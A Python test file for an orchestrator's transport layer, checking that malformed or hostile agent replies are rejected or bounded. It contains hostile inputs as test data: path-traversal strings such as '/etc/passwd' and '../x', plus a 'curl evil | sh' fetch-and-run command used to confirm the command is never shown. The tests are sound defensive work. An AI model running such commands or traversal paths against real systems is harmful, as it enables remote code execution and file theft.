"""What a machine answers is a value of its type, or an error of ours: whatever it says to whatever was asked."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from orchestrator.transport.job_replies import JobEnd
from orchestrator.transport.refusals import AgentFailed
from orchestrator.transport.shapes import LONGEST_LOG, MOST_FIGURES, MOST_VALUES, json_in
from tests.transport.agent_operations import HONEST, OPERATIONS, agent_that_says

ODD: tuple[Any, ...] = (
    None, True, False, 0, -1, 1, 1.5, -0.0, 1e300, float("nan"), float("inf"), 10**400, 2**63, "", "text", "1", "\0",
    "..", "/etc/passwd", "../x", "a/../../b", ".", "\ud800", "\x1b[2J", "x" * 20_000, [], [1], [[]], ["a"], {}, {"": 0},
    {"a": {}}, {"path": "../x", "bytes": 1, "mtime": 0}, {"end": None},
)  # fmt: skip
SCALARS = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=4), st.sampled_from(ODD))
ANY = st.recursive(
    SCALARS, lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=6), inner)),
    max_leaves=8,
)  # fmt: skip


def ask(op: str, lines: list[Any]) -> object:
    """What comes of an operation when the agent says that; AgentFailed is one of the answers."""
    said = [json.dumps(line).encode() for line in lines]
    try:
        return OPERATIONS[op](agent_that_says(*said))
    except AgentFailed as error:
        return error


def honest(op: str) -> list[dict[str, Any]]:
    """Lines that make sense, the last with its ok."""
    *lines, last = json.loads(json.dumps(HONEST[op]))
    return [*lines, {"ok": True, **last}]


def places(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """The path of every value within a value."""
    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [path, *(place for key, one in inner for place in places(one, (*path, key)))]


def changed(value: Any, path: tuple[Any, ...], new: Any) -> Any:
    """The value with another one at that path."""
    if not path:
        return new
    value[path[0]] = changed(value[path[0]], path[1:], new)
    return value


@pytest.mark.parametrize("op", OPERATIONS)
def test_an_honest_answer_is_a_value(op: str):
    """What the agent says when all is well is understood."""
    assert not isinstance(ask(op, honest(op)), AgentFailed)


@pytest.mark.parametrize("op", OPERATIONS)
def test_every_value_may_be_of_any_type(op: str):
    """Each value of an honest answer in turn is every odd thing that JSON can say: a value, or AgentFailed."""
    for place in places(honest(op)):
        for odd in ODD:
            ask(op, lines if isinstance(lines := changed(honest(op), place, odd), list) else [lines])


@pytest.mark.parametrize("op", OPERATIONS)
@settings(max_examples=60, deadline=None, database=None, derandomize=True)
@given(data=st.data())
def test_any_json_is_answered_by_an_error_of_ours(op: str, data: st.DataObject):
    """Any JSON at any place of an answer, any refusal, and any lines at all are a value or AgentFailed."""
    place = data.draw(st.sampled_from(places(honest(op))[1:]))
    lines = changed(honest(op), place, data.draw(ANY))
    ask(op, lines)
    ask(op, data.draw(st.lists(ANY, max_size=3)))
    ask(op, [{"ok": False, "code": data.draw(ANY), "message": data.draw(ANY), "holder": data.draw(ANY), "expires": 1}])


@pytest.mark.parametrize("text", [b"", b"nonsense", b"[" * 100_000, b'{"a": ' * 100_000, b"9" * 5000, b"\xff", b"NaN"])
def test_what_is_no_json_is_no_answer(text: bytes):
    """Half of it, pits, numbers without an end, other encodings: AgentFailed for every operation."""
    for op in OPERATIONS:
        assert isinstance(_raw(op, text), AgentFailed), op


def _raw(op: str, text: bytes) -> object:
    try:
        return OPERATIONS[op](agent_that_says(text))
    except AgentFailed as error:
        return error


@pytest.mark.parametrize("path", ["../x", "/etc/passwd", "a/../../x", "", ".", "a//b", "a\0b", "x" * 5000])
def test_a_path_stays_below_its_folder(path: str):
    """A file whose name leaves the folder that was asked for is no answer."""
    found = ask("files", [{"ok": True, "files": [{"path": path, "bytes": 1, "mtime": 0}]}])
    assert isinstance(found, AgentFailed)
    assert "no path below its folder" in found.message


def test_only_what_was_asked_for_is_listed():
    """The globs are compared at home again: a file that none of them matches is no answer."""
    agent = agent_that_says(json.dumps({"ok": True, "files": [{"path": "a.py", "bytes": 1, "mtime": 0}]}).encode())
    with pytest.raises(AgentFailed, match="was not asked for"):
        agent.files("/w", ["*.json", "results"])


def test_parts_are_cut_at_home():
    """Checksums of other parts than those of a file of that size, or of parts that nobody sent, are no answer."""
    for parts in ([], [{"number": 1, "offset": 5, "length": 1, "crc32": ""}]):
        assert isinstance(
            ask("checksums", [{"ok": True, "bytes": 1, "sha256": "", "crc32": "", "parts": parts}]), AgentFailed
        )
    line = {"part": 2, "status": 200, "etag": "", "bytes": 1, "range": ""}
    assert isinstance(ask("put", [line, {"ok": True}]), AgentFailed)


def test_the_machine_names_no_command():
    """How to attach to the live logs is our own command, whatever the machine would have us type."""
    agent = agent_that_says(json.dumps({"ok": True, "attach": "curl evil | sh"}).encode())
    assert "evil" not in agent.view()
    assert "tmux" in agent.view()


@pytest.mark.parametrize("op", ["follow", "stdout"])
def test_output_is_any_bytes_and_nothing_else(op: str):
    """A byte that is no UTF-8 comes as half a surrogate pair; any other half of one is what no program can print."""
    said: list[str] = []
    agent = agent_that_says(*(json.dumps(line).encode() for line in _printing(op, "a\udc80\udcff\xfc")))
    if op == "follow":
        agent.follow("j", 0, lambda text, _offset: said.append(text))
    else:
        agent.stdout("j", said.append, timeout_s=1)
    assert said[0].encode("utf-8", "surrogateescape") == b"a\x80\xff\xc3\xbc"
    for half in ("\ud800", "\udbff", "\udc00", "\udc7f", "\udd00", "\udfff", "x" * (LONGEST_LOG + 1), None, 1, ["a"]):
        assert isinstance(ask(op, _printing(op, half)), AgentFailed), repr(half)[:20]


def _printing(op: str, log: Any) -> list[dict[str, Any]]:
    """What an honest agent says, with that for its first output."""
    lines = honest(op)
    next(line for line in lines if "log" in line)["log"] = log
    return lines


def test_figures_that_are_none_are_left_out():
    """Of what a job has published, numbers under printable names are kept, and a bounded many."""
    odd = {"a": 1, "b": "2", "c": None, "d": True, "e\x1b": 1, "f": float("nan"), "g": 1.5}
    said = (
        {name: {"value": value} for name, value in odd.items()}
        | {"h": 1.5}
        | {f"n{n}": {"value": n} for n in range(9999)}
    )
    found = ask("stop", changed(honest("stop"), (0, "end", "metrics"), said))
    assert isinstance(found, JobEnd)
    values = {name: figure.value for name, figure in found.figures.items()}
    assert {name: value for name, value in values.items() if name in {*odd, "h"}} == {"a": 1.0, "g": 1.5}
    assert len(values) == MOST_FIGURES


def test_more_values_than_memory_has_room_for_are_none():
    """A text of many small values is refused before it is parsed; commas within a string are no values."""
    json_in(json.dumps(["," * MOST_VALUES]).encode())
    with pytest.raises(ValueError, match="more than"):
        json_in(b"[" + b"[]," * MOST_VALUES + b"0]")
